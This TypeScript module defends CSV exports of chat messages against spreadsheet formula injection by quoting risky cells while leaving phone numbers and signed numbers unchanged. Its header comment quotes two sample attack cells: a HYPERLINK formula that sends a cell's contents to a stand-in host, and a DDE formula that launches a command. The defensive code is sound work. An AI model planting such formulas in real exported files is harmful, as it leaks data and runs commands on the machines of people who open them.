/**
 * Spreadsheet formula ("CSV injection") defence for every cell toex writes to a CSV file.
 *
 * Chat messages are attacker-controlled text. A message such as `=HYPERLINK("http://x/?"&A1,"Open")` or
 * `=cmd|' /C calc'!A0` is evaluated by Excel, LibreOffice or Google Sheets when an investigator opens the
 * output, leaking evidence or running commands. OWASP's guidance ("CSV Injection") is to make sure no such
 * cell begins with `=`, `+`, `-`, `@`, tab (0x09) or carriage return (0x0D), by prefixing it with a single
 * quote so the spreadsheet reads it as text.
 *
 * The original columns are evidence too: an analyst copies phone numbers out of them into other systems,
 * so a cell is only changed when a spreadsheet could run it as code. The rule applied here:
 * 1. A cell whose first character is tab or carriage return gets a leading `'`.
 * 2. So does a cell whose first character is `=` or `@`, or the fullwidth forms `＝` `＋` `－` `＠` (some
 *    East Asian Excel builds and input methods turn them into the ASCII operators).
 * 3. A cell starting with `+` or `-` gets a leading `'` unless the rest of it holds only digits, spaces
 *    and the punctuation numbers and phone numbers are written with: `( ) - . , /`. Such a cell
 *    (`+44 7700 900123`, `+447700900123`, `-12.5`, `+1 (555) 010-0199`) can name no function, cell,
 *    range or DDE server — those need letters, `:`, `!` or `|` — so there is nothing in it to run. At
 *    worst a spreadsheet shows it as a number, which is how it shows any other number.
 * 4. Rules 2 and 3 also apply after leading whitespace (spaces, line breaks, no-break spaces): some
 *    importers trim it before deciding whether a cell is a formula.
 *
 * Cells are never truncated or otherwise changed; the quote is the only addition. Delimiters, quotes and
 * line breaks inside a cell are the CSV writer's job: it quotes such cells, so text after a comma cannot
 * start a new cell.
 */

// First characters that make a spreadsheet treat a cell as a formula (OWASP) plus their fullwidth forms.
const formulaTriggers = new Set(['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']);

// A signed number or a phone number as people write them: nothing after the sign that could name a
// function, a cell reference or a DDE server, so a spreadsheet has nothing to run.
const numberOrPhoneNumber = /^[+-][\d ().,/-]*$/;

// Whitespace that an importer might trim before looking at the first character.
const leadingWhitespace = /^[\s\u00A0\u2007\u202F\uFEFF]*/;
// The same, tested on the first character only.
const leadingSpace = /^[\s\u00A0\u2007\u202F\uFEFF]/;

/**
 * True when a spreadsheet opening a CSV cell with this text could evaluate it as a formula, so
 * {@link neutraliseSpreadsheetFormula} would prefix it. Useful to count neutralised cells for a report.
 */
export function looksLikeSpreadsheetFormula(cell: string): boolean {
  // Every cell of every output goes through here: most start with a printable ASCII character other than
  // the four triggers, or with any other character that is neither a trigger nor space, and are answered
  // without slicing or matching.
  const code = cell.charCodeAt(0);
  if (code > 0x20 && code < 0x7f) {
    if (code !== 0x3d && code !== 0x2b && code !== 0x2d && code !== 0x40) return false;
  } else if (code >= 0x7f && !formulaTriggers.has(cell.charAt(0)) && !leadingSpace.test(cell)) {
    return false;
  }
  const first = cell.charAt(0);
  if (first === '') return false;
  // Tab and carriage return are triggers themselves, so test the raw first character before trimming.
  if (first === '\t' || first === '\r') return true;
  const trimmed = formulaTriggers.has(first)
    ? cell
    : cell.slice(leadingWhitespace.exec(cell)?.[0].length ?? 0);
  return formulaTriggers.has(trimmed.charAt(0)) && !numberOrPhoneNumber.test(trimmed);
}

/**
 * Returns `cell` unchanged, or prefixed with a single quote (`'`) when a spreadsheet could evaluate it as a
 * formula. See the module documentation for the exact rule: numbers and phone numbers are left alone.
 *
 * @example
 * neutraliseSpreadsheetFormula('=1+1'); // "'=1+1"
 * neutraliseSpreadsheetFormula('+SUM(A1:A9)'); // "'+SUM(A1:A9)"
 * neutraliseSpreadsheetFormula('+44 7700 900123'); // "+44 7700 900123"
 * neutraliseSpreadsheetFormula('-12.5'); // "-12.5"
 * neutraliseSpreadsheetFormula('Hola'); // "Hola"
 */
export function neutraliseSpreadsheetFormula(cell: string): string {
  return looksLikeSpreadsheetFormula(cell) ? `'${cell}` : cell;
}
